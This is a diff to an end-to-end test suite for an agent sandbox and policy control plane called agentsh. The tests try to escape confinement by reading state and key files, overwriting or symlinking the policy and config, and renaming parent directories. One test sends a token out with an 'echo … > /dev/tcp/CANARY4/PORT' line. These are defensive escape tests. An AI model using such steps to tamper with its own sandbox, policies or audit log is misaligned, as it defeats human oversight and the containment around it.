@@ -64,10 +64,9 @@ s = socket.create_connection(("127.0.0.1", API_PORT)); ask(s)
 for name in STATE_FILES:
     try: open(name, "rb").read(1); escaped(name)
     except OSError as e: print(name, e)
-for directory in (STATE, os.path.dirname(SOCKET)):
-    try:
-        if os.listdir(directory): escaped(directory, os.listdir(directory))
-    except OSError as e: print(directory, e)
+try:
+    if os.listdir(STATE): escaped(STATE, os.listdir(STATE))
+except OSError as e: print(STATE, e)
 """, delivers=False),
         Row("K2-write", "the policy, the configuration and the audit log changed where they are", """
 for name in STATE_FILES + [POLICY_FILE, CONFIG_FILE]:
@@ -92,32 +91,35 @@ for name in STATE_FILES + [POLICY_FILE, CONFIG_FILE]:
         cls.sid = result.stdout.decode().strip()
 
     @classmethod
-    def make_appliance(cls):
+    def make_keys(cls):
         directory = pathlib.Path(cls.world.directory) / f"keys-{cls.__name__}"
         directory.mkdir()
         keys = directory / "keys.yaml"
         keys.write_text(f"- {{id: admin, key: {ADMIN_KEY}, role: admin}}\n")
         keys.chmod(0o600)
         if harness.Arguments.user:
-            owner = pwd.getpwnam(harness.Arguments.user)
-            for path in (directory, keys):
-                os.chown(path, owner.pw_uid, owner.pw_gid)
-        return harness.Appliance(cls.world, harness.Arguments.user, {"e2e": POLICY},
-                                 f"auth: {{type: api_key, api_key: {{keys_file: {keys}}}}}\n",
+            harness.run("chown", "-R", harness.Arguments.user, str(directory))
+        return f"auth: {{type: api_key, api_key: {{keys_file: {keys}}}}}\n"
+
+    @classmethod
+    def make_appliance(cls):
+        return harness.Appliance(cls.world, harness.Arguments.user, {"e2e": POLICY}, cls.make_keys(),
                                  server=f", http: {{addr: '0.0.0.0:{API_PORT}'}}")
 
+    def state(self):
+        return self.appliance.home / "state"
+
     def state_files(self):
-        found = [p for p in (self.appliance.home / "state").rglob("*") if p.is_file() and not p.is_symlink()]
+        found = [p for p in self.state().rglob("*") if p.is_file() and not p.is_symlink()]
         self.assertTrue([p for p in found if p.suffix == ".jsonl"], found)
         self.assertTrue([p for p in found if "key" in p.name], found)
         return [str(p) for p in found]
 
     def values(self):
-        home = self.appliance.home
-        return dict(super().values(), SOCKET=str(self.appliance.socket), HOME=str(home), STATE=str(home / "state"),
-                    STATE_FILES=self.state_files(), POLICY_FILE=str(home / "policies/e2e.yaml"),
-                    CONFIG_FILE=str(home / "config.yaml"), BIN=str(harness.Arguments.bin), API_PORT=API_PORT,
-                    KEY=ADMIN_KEY.encode(), KEY_TEXT=ADMIN_KEY)
+        return dict(super().values(), SOCKET=str(self.appliance.socket), HOME=str(self.appliance.home),
+                    STATE=str(self.state()), STATE_FILES=self.state_files(),
+                    POLICY_FILE=str(self.appliance.policies / "e2e.yaml"), CONFIG_FILE=str(self.appliance.config),
+                    BIN=str(harness.Arguments.bin), API_PORT=API_PORT, KEY=ADMIN_KEY.encode(), KEY_TEXT=ADMIN_KEY)
 
     def show_unconfined(self, row):
         if row.identifier in ("K2-write", "K14-binaries"):
@@ -142,7 +144,7 @@ def replace(directory):
     attempt("rename " + directory, lambda: os.rename(directory, directory + ".old"))
     attempt("mkdir " + directory, lambda: os.makedirs(directory))
     attempt("write " + directory, lambda: open(directory + "/e2e.yaml", "w").write(evil))
-for directory in (HOME + "/policies", HOME, os.path.dirname(HOME)):
+for directory in (HOME + "/policies", HOME):
     replace(directory)
 attempt("symlink", lambda: os.symlink(HOME + "/evil", HOME + "/policies"))
 attempt("new file", lambda: open(HOME + "/policies/other.yaml", "w").write(evil))
@@ -156,7 +158,7 @@ attempt("config", lambda: os.unlink(HOME + "/config.yaml"))
 
     def test_K7_audit_log(self):
         """K7: the log still verifies after everything above, and nothing of it was written by a session"""
-        result = self.appliance.cli("audit", "verify", "--config", self.appliance.config)
+        result = self.appliance.cli("audit", "verify", "--dir", self.state() / "audit", "--key-file", self.state() / "audit.key")
         self.assertEqual(result.returncode, 0, self.text(result))
 
 
@@ -177,9 +179,11 @@ class DeepHome(ControlPlane):
         (home / ".config/agentsh/policies/e2e.yaml").write_text(POLICY)
         config = home / ".config/agentsh/config.yaml"
         config.write_text(
-            f"server: {{state_dir: {home}/.local/state/agentsh, unix_socket: {{path: {home}/.local/run/agentsh/agentsh.sock}}}}\n"
+            f"server: {{state_dir: {home}/.local/state/agentsh, "
+            f" unix_socket: {{path: {home}/.local/run/agentsh/agentsh.sock}}, http: {{addr: '127.0.0.1:{API_PORT}'}}}}\n"
             f"policies: {{dir: {home}/.config/agentsh/policies, default: e2e}}\n"
-            f"sandbox: {{network: {{intercept_mode: {harness.Arguments.intercept}, resolvers: ['{harness.RESOLVER4}:53']}}}}\n")
+            f"sandbox: {{network: {{intercept_mode: {harness.Arguments.intercept}, "
+            f" resolvers: ['{harness.RESOLVER4}:53']}}}}\n" + cls.make_keys())
         if harness.Arguments.user:
             harness.run("chown", "-R", harness.Arguments.user, str(home))
         # The harness's own appliance with these paths in the place of its own.
@@ -197,8 +201,12 @@ class DeepHome(ControlPlane):
         assert result.returncode == 0, result.stderr
         cls.sid = result.stdout.decode().strip()
 
-    def state_files(self):
-        return []
+    def state(self):
+        return self.home / ".local/state/agentsh"
+
+    def show_unconfined(self, row):
+        if row.identifier not in ("K1-tcp", "K1-tcp-name"):  # The API listens on loopback only here.
+            super().show_unconfined(row)
 
     def test_K2_renamed_parents(self):
         """K2: the directories above the policies, the state and the socket renamed away and made anew"""
@@ -211,7 +219,9 @@ for name in (".config", ".config/agentsh", ".config/agentsh/policies", ".local",
         except OSError as e: print("failed", path, e)
 """)
         planted = [str(p) for p in self.home.rglob("*.old")] + [str(p) for p in self.home.rglob("planted")]
-        allowed = {str(self.home / p / "planted") for p in (".config", ".local", ".local/state", ".local/run")}
+        allowed = {str(self.home / p / "planted") for p in (
+            # A file beside ours is nobody's business.
+            ".config", ".config/agentsh", ".local", ".local/state", ".local/run", ".local/run/agentsh")}
         self.assertEqual(set(planted) - allowed, set(), output)
         self.assertEqual((self.appliance.policies / "e2e.yaml").read_text(), POLICY, output)
 
@@ -249,7 +259,7 @@ while time.monotonic() < until:
 """
 
     MALFORMED = [
-        "", "version: 1\n", "not yaml: [", "version: 2\nname: e2e\n", "version: 1\nname: e2e\nnetwork_rules: allow\n",
+        "", "version: 1\n", "not yaml: [", "version: 0\nname: e2e\n", "version: 1\nname: e2e\nnetwork_rules: allow\n",
         "version: 1\nname: e2e\nnetwork_rules: [{name: a, decision: alow}]\n",
         "version: 1\nname: e2e\nnetwork_rules: [{name: a, domain: ['*'], decision: allow}]\n",
         "version: 1\nname: e2e\nnetwork_rules: [{name: a, cidrs: ['11.22.33.0/33'], decision: allow}]\n",
@@ -257,7 +267,7 @@ while time.monotonic() < until:
         "version: 1\nname: e2e\nnetwork_rules: [{name: a, ports: [70000], decision: allow}]\n",
         "version: 1\nname: e2e\nnetwork_rules: [{name: a, ports: ['x'], decision: allow}]\n",
         "version: 1\nname: e2e\nnetwork_rules: [{name: a, domains: ['*'], decision: [allow]}]\n",
-        "version: 1\nname: e2e\nnetwork_rules: [{name: a, domains: ['*'], decision: ALLOW }]\n",
+        "version: 1\nname: e2e\nnetwork_rules: [{name: a, domains: ['*'], decision: allow-all}]\n",
         "version: 1\nname: e2e\nnetwork_rules: [{name: a, domains: ['*'], decision: allow, decision: deny}]\n",
         "version: 1\nname: e2e\nnetwork_rule: [{name: a, domains: ['*'], decision: allow}]\n",
         "version: 1\nname: e2e\nnetwork_rules: [{name: a, domains: ['*'], decision: allow}]\nnetwork_rules: []\n",
@@ -289,7 +299,7 @@ while time.monotonic() < until:
         self.assertEqual(process.stdout.readline(), b"running\n")
 
         def updates():
-            return len([e for e in self.events(self.sid) if e["type"] == "policy_updated"])
+            return len(self.events(self.sid, "--type", "policy_updated"))
 
         for number in range(12):
             seen = updates()
@@ -333,7 +343,6 @@ while time.monotonic() < until:
     def test_K10_from_inside(self):
         """K10: the program itself, started inside, opens no way out: no server of its own, no other session"""
         token = self.new_token("k10")
-        self.tokens.append(token)
         agentsh = harness.Arguments.bin / "agentsh"
         dodge = f"echo {token.decode()} > /dev/tcp/{CANARY4}/{PORT}"
         outside = self.outside(["bash", "-c", dodge])
